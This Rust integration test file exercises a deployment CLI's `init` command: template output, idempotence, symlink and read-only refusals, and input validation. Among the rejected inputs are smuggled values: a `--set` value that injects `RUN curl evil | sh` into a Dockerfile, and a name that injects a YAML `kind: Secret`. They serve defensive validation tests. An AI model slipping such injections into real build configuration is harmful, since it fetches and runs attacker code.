//! `paas init` on every fixture, every file it writes, and the ways it must refuse.

use std::collections::BTreeMap;

use crate::detect::FIXTURES;
use crate::paas_snapshot;
use crate::support::TestEnv;

/// The files `init` adds to a fixture: the tree after minus the tree before.
fn written(env: &TestEnv, before: &[(String, String)]) -> BTreeMap<String, String> {
    env.tree()
        .into_iter()
        .filter(|file| !before.contains(file))
        .collect()
}

#[test]
fn init_every_fixture() {
    for fixture in FIXTURES {
        let env = TestEnv::fixture(fixture);
        let before = env.tree();
        let mut command = env.paas();
        command.args(["init", "--yes", "--registry", "registry.example.com/team"]);
        if fixture == "dotnet-two-web" {
            let output = paas_snapshot!(env, &mut command, format!("init_{fixture}"));
            assert_eq!(output.status.code(), Some(2));
            assert_eq!(
                env.tree(),
                before,
                "nothing written on an ambiguous project"
            );
            continue;
        }
        let output = paas_snapshot!(env, &mut command, format!("init_{fixture}"));
        assert!(output.status.success(), "{fixture}");
        let files = written(&env, &before);
        assert!(
            files.contains_key("Dockerfile") && files.contains_key("paas.toml"),
            "{fixture}: {:?}",
            files.keys()
        );
        for (path, text) in &files {
            if let Some(name) = path.strip_prefix("deploy/") {
                // The standard templates, as they are, behind paas's marker line: the same
                // for every project, so compared with their source instead of snapshotted.
                let source = fs_err::read_to_string(
                    std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
                        .join("packs/_standard")
                        .join(name),
                )
                .expect("a standard template of that name");
                assert_eq!(
                    text,
                    &paas::scaffold::templates::mark(&source),
                    "{fixture}: {path}"
                );
                continue;
            }
            insta::assert_snapshot!(format!("init_{fixture}__{}", path.replace('/', "_")), text);
        }
        let deploy: Vec<&str> = files
            .keys()
            .filter_map(|path| path.strip_prefix("deploy/"))
            .collect();
        assert_eq!(
            deploy,
            [
                "configmap.yaml",
                "dashboard.yaml",
                "deployment.yaml",
                "hpa.yaml",
                "ingress.yaml",
                "networkpolicy.yaml",
                "pdb.yaml",
                "service.yaml",
                "servicemonitor.yaml"
            ],
            "{fixture}: every standard template is written"
        );
        // Running it again changes nothing, byte for byte.
        let again = env
            .paas()
            .args(["init", "--yes", "--registry", "registry.example.com/team"])
            .output()
            .expect("runs");
        assert!(
            again.status.success(),
            "{fixture}: {}",
            String::from_utf8_lossy(&again.stderr)
        );
        assert_eq!(
            written(&env, &before),
            files,
            "{fixture}: re-running init is byte-identical"
        );
    }
}

#[test]
fn init_with_every_option() {
    let env = TestEnv::fixture("static-dist");
    let before = env.tree();
    let output = paas_snapshot!(
        env,
        env.paas().args([
            "init",
            "--yes",
            "--name",
            "shop-web",
            "--port",
            "8081",
            "--registry",
            "127.0.0.1:5000/team",
            "--host",
            "shop.example.com",
            "--replicas",
            "3",
            "--set",
            "base_image=registry.corp/nginx:1.27",
        ]),
        "init_every_option"
    );
    assert!(output.status.success());
    let files = written(&env, &before);
    assert!(files.contains_key("deploy/ingress.yaml"));
    assert!(files.contains_key("deploy/pdb.yaml"));
    assert!(
        files["Dockerfile"].contains("FROM registry.corp/nginx:1.27"),
        "{}",
        files["Dockerfile"]
    );
    insta::assert_snapshot!("init_every_option__paas.toml", files["paas.toml"]);
}

#[test]
fn dry_run_writes_nothing() {
    let env = TestEnv::fixture("spa-vite");
    let before = env.tree();
    let output = env
        .paas()
        .args(["init", "--dry-run", "--name", "web"])
        .output()
        .expect("runs");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stdout.contains("==> Dockerfile <==") && stdout.contains("==> deploy/deployment.yaml <=="),
        "{stdout}"
    );
    assert_eq!(env.tree(), before);
    let json = env
        .paas()
        .args(["init", "--dry-run", "--name", "web", "--output", "json"])
        .output()
        .expect("runs");
    let value: serde_json::Value = serde_json::from_slice(&json.stdout).expect("json");
    assert_eq!(value["dry_run"], true);
    assert!(
        value["files"]
            .as_array()
            .is_some_and(|f| f.iter().all(|f| f["action"] == "create"))
    );
    assert_eq!(env.tree(), before);
}

#[test]
fn existing_dockerfile_is_kept_without_force() {
    let env = TestEnv::fixture("static-dist");
    env.write("Dockerfile", "FROM mine\n");
    let before = env.tree();
    let output = paas_snapshot!(
        env,
        env.paas().args(["init", "--yes", "--name", "web"]),
        "init_existing_dockerfile"
    );
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(env.tree(), before, "the folder is as it was");
    let output = env
        .paas()
        .args(["init", "--yes", "--name", "web", "--force"])
        .output()
        .expect("runs");
    assert!(output.status.success());
    assert_ne!(env.read("Dockerfile"), "FROM mine\n");
}

#[cfg(unix)]
#[test]
fn symlinked_destination_is_refused() {
    let env = TestEnv::fixture("static-dist");
    let outside = env.temp.path().join("bashrc");
    fs_err::write(&outside, "keep me\n").expect("write");
    std::os::unix::fs::symlink(&outside, env.project.join("Dockerfile")).expect("symlink");
    let before = env.tree();
    let output = paas_snapshot!(
        env,
        env.paas()
            .args(["init", "--yes", "--name", "web", "--force"]),
        "init_symlink"
    );
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(fs_err::read_to_string(&outside).expect("read"), "keep me\n");
    assert_eq!(env.tree(), before);

    let env = TestEnv::fixture("static-dist");
    let elsewhere = env.temp.path().join("elsewhere");
    fs_err::create_dir_all(&elsewhere).expect("dir");
    std::os::unix::fs::symlink(&elsewhere, env.project.join("deploy")).expect("symlink");
    let output = env
        .paas()
        .args(["init", "--yes", "--name", "web", "--force"])
        .output()
        .expect("runs");
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(
        fs_err::read_dir(&elsewhere).expect("dir").count(),
        0,
        "nothing written through the link"
    );
    assert!(!env.project.join("Dockerfile").exists());
}

#[test]
fn read_only_folder_loses_nothing() {
    let env = TestEnv::fixture("static-dist");
    let before = env.tree();
    let guard = ReadOnly::new(&env.project);
    let output = env
        .paas()
        .args(["init", "--yes", "--name", "web"])
        .output()
        .expect("runs");
    drop(guard);
    assert_eq!(
        output.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("nothing was changed"), "{stderr}");
    assert_eq!(env.tree(), before);
}

/// Makes a folder unwritable, even for root (which ignores mode bits): `chattr +i` when
/// running as root, `chmod 555` otherwise.
struct ReadOnly(std::path::PathBuf, bool);

impl ReadOnly {
    fn new(dir: &std::path::Path) -> Self {
        let root = std::process::Command::new("id")
            .arg("-u")
            .output()
            .is_ok_and(|o| o.stdout.starts_with(b"0\n"));
        if root {
            let status = std::process::Command::new("chattr")
                .arg("+i")
                .arg(dir)
                .status()
                .expect("chattr runs");
            assert!(status.success(), "chattr +i failed");
        } else {
            std::process::Command::new("chmod")
                .arg("555")
                .arg(dir)
                .status()
                .expect("chmod runs");
        }
        Self(dir.to_owned(), root)
    }
}

impl Drop for ReadOnly {
    fn drop(&mut self) {
        if self.1 {
            let _ = std::process::Command::new("chattr")
                .arg("-i")
                .arg(&self.0)
                .status();
        } else {
            let _ = std::process::Command::new("chmod")
                .arg("755")
                .arg(&self.0)
                .status();
        }
    }
}

#[test]
fn app_names_are_normalised_or_rejected() {
    for (folder, expected) in [
        ("My_App", "my-app"),
        ("app.v2", "app-v2"),
        ("-lead", "lead"),
    ] {
        let env = TestEnv::named(folder);
        env.write("index.html", "<h1>hi</h1>\n");
        let output = env.paas().args(["init", "--yes"]).output().expect("runs");
        assert!(
            output.status.success(),
            "{folder}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        assert!(
            env.read("paas.toml")
                .contains(&format!("name = \"{expected}\"")),
            "{folder}"
        );
    }
    let long = "a".repeat(70);
    let env = TestEnv::named(&long);
    env.write("index.html", "<h1>hi</h1>\n");
    let output = env.paas().args(["init", "--yes"]).output().expect("runs");
    assert!(output.status.success());
    assert!(
        env.read("paas.toml")
            .contains(&format!("name = \"{}\"", "a".repeat(63)))
    );

    let env = TestEnv::named("ü");
    env.write("index.html", "<h1>hi</h1>\n");
    let before = env.tree();
    let output = paas_snapshot!(
        env,
        env.paas().args(["init", "--yes"]),
        "init_unusable_folder_name"
    );
    assert_eq!(output.status.code(), Some(2));
    assert_eq!(env.tree(), before);

    for bad in ["My_App", "-lead", "a\"\nkind: Secret", &"a".repeat(64), ""] {
        let env = TestEnv::named("site");
        env.write("index.html", "<h1>hi</h1>\n");
        let before = env.tree();
        let output = env
            .paas()
            .args(["init", "--yes", "--name", bad])
            .output()
            .expect("runs");
        assert_eq!(output.status.code(), Some(2), "{bad:?}");
        assert_eq!(env.tree(), before, "{bad:?}");
    }
    let env = TestEnv::named("site");
    env.write("index.html", "<h1>hi</h1>\n");
    paas_snapshot!(
        env,
        env.paas().args(["init", "--yes", "--name", "My_App"]),
        "init_invalid_name"
    );
}

#[test]
fn bad_values_are_rejected_before_writing() {
    let env = TestEnv::fixture("static-dist");
    let before = env.tree();
    for args in [
        vec!["--registry", "https://reg.example.com"],
        vec!["--host", "Shop.Example.com"],
        vec!["--set", "base_image=nginx\nRUN curl evil | sh"],
        vec!["--set", "nope=1"],
        vec!["--set", "base_image"],
        vec!["--port", "0"],
    ] {
        let output = env
            .paas()
            .args(["init", "--yes", "--name", "web"])
            .args(&args)
            .output()
            .expect("runs");
        assert_eq!(
            output.status.code(),
            Some(2),
            "{args:?}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        assert_eq!(env.tree(), before, "{args:?}");
    }
    paas_snapshot!(
        env,
        env.paas()
            .args(["init", "--yes", "--name", "web", "--set", "nope=1"]),
        "init_unknown_variable"
    );
}

#[test]
fn empty_folder_writes_nothing() {
    let env = TestEnv::named("empty");
    let output = paas_snapshot!(env, env.paas().args(["init", "--yes"]), "init_empty");
    assert_eq!(output.status.code(), Some(1));
    assert!(env.tree().is_empty());
}

#[test]
fn init_dotnet_fixtures() {
    for fixture in crate::detect::DOTNET_FIXTURES {
        let env = TestEnv::fixture(fixture);
        let before = env.tree();
        let mut command = env.paas();
        command.args(["init", "--yes", "--registry", "registry.example.com/team"]);
        let output = paas_snapshot!(env, &mut command, format!("init_{fixture}"));
        assert!(output.status.success(), "{fixture}");
        let files = written(&env, &before);
        for (path, text) in &files {
            insta::assert_snapshot!(format!("init_{fixture}__{}", path.replace('/', "_")), text);
        }
        // Every file a `COPY` of the Dockerfile takes from the context is in the fixture.
        for source in copy_sources(&files["Dockerfile"]) {
            assert!(
                env.project.join(&source).exists(),
                "{fixture}: `COPY {source}` has no source"
            );
        }
    }
}

/// The context sources of the `COPY` lines of a Dockerfile (not `--from` a stage).
fn copy_sources(dockerfile: &str) -> Vec<String> {
    let mut sources = Vec::new();
    for line in dockerfile.lines() {
        let Some(rest) = line.strip_prefix("COPY ") else {
            continue;
        };
        if rest.starts_with("--from=") {
            continue;
        }
        let words: Vec<String> = if rest.starts_with('[') {
            serde_json::from_str(rest).expect("a JSON COPY")
        } else {
            rest.split_whitespace().map(str::to_owned).collect()
        };
        if let Some((_, from)) = words.split_last() {
            sources.extend(from.iter().cloned());
        }
    }
    assert!(!sources.is_empty(), "a COPY from the context");
    sources
}

#[test]
fn init_in_a_subfolder_warns_and_the_root_does_not() {
    let env = TestEnv::fixture("dotnet-subfolder");
    let output = paas_snapshot!(
        env,
        &mut env.paas().args(["init", "app", "--yes"]),
        "init_dotnet-subfolder_app"
    );
    assert!(output.status.success());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("with `paas init --project app/Web/Web.csproj`"),
        "{stderr}"
    );
    let output = env
        .paas()
        .args(["init", "--yes", "--project", "app/Web/Web.csproj"])
        .output()
        .expect("runs");
    assert!(output.status.success());
    assert!(
        !String::from_utf8_lossy(&output.stderr).contains("warning: app/Web"),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let dockerfile = env.read("Dockerfile");
    assert!(dockerfile.contains(r#""dotnet", "publish", "app/Web/Web.csproj""#));
    assert!(dockerfile.contains("FROM mcr.microsoft.com/dotnet/sdk:10.0 AS build"));
}

/// The npm commands the `dotnet-spa` publish runs (its `PublishRunWebpack` target), run with
/// this machine's Node in the folder paas gives Node for: they build the files the target
/// copies into `wwwroot`.
#[test]
fn dotnet_spa_npm_commands_build_the_client() {
    let has_npm = std::process::Command::new("npm")
        .arg("--version")
        .output()
        .is_ok_and(|output| output.status.success());
    if !has_npm {
        assert!(
            std::env::var_os("PAAS_TEST_REQUIRE_TOOLS").is_none(),
            "npm is required (PAAS_TEST_REQUIRE_TOOLS is set) but not on PATH"
        );
        skipped("skipped: needs node and npm on PATH");
        return;
    }
    let env = TestEnv::fixture("dotnet-spa");
    let json = env
        .paas()
        .args(["detect", "--output", "json"])
        .output()
        .expect("runs");
    let value: serde_json::Value = serde_json::from_slice(&json.stdout).expect("JSON");
    let spa_root = value["values"]["spa_root"]
        .as_str()
        .expect("spa_root is set");
    let csproj = env.read("Shop.Spa.csproj");
    let commands: Vec<&str> = csproj
        .lines()
        .filter_map(|line| line.split_once("Command=\"").map(|(_, rest)| rest))
        .filter_map(|rest| rest.split_once('"').map(|(command, _)| command))
        .collect();
    assert_eq!(commands, ["npm install", "npm run build"]);
    let cache = std::env::temp_dir().join("paas-test-npm-cache");
    for command in commands {
        let mut words = command.split_whitespace();
        let output = std::process::Command::new(words.next().expect("a program"))
            .args(words)
            .env("npm_config_cache", &cache)
            .env("npm_config_audit", "false")
            .env("npm_config_fund", "false")
            .current_dir(env.project.join(spa_root))
            .output()
            .expect("npm runs");
        assert!(
            output.status.success(),
            "`{command}`: {}",
            String::from_utf8_lossy(&output.stderr)
        );
    }
    assert!(
        env.read(&format!("{spa_root}/dist/index.html"))
            .contains("Shop (built)")
    );
}

#[expect(
    clippy::print_stderr,
    reason = "the one line that says a test was skipped"
)]
fn skipped(message: &str) {
    eprintln!("{message}");
}
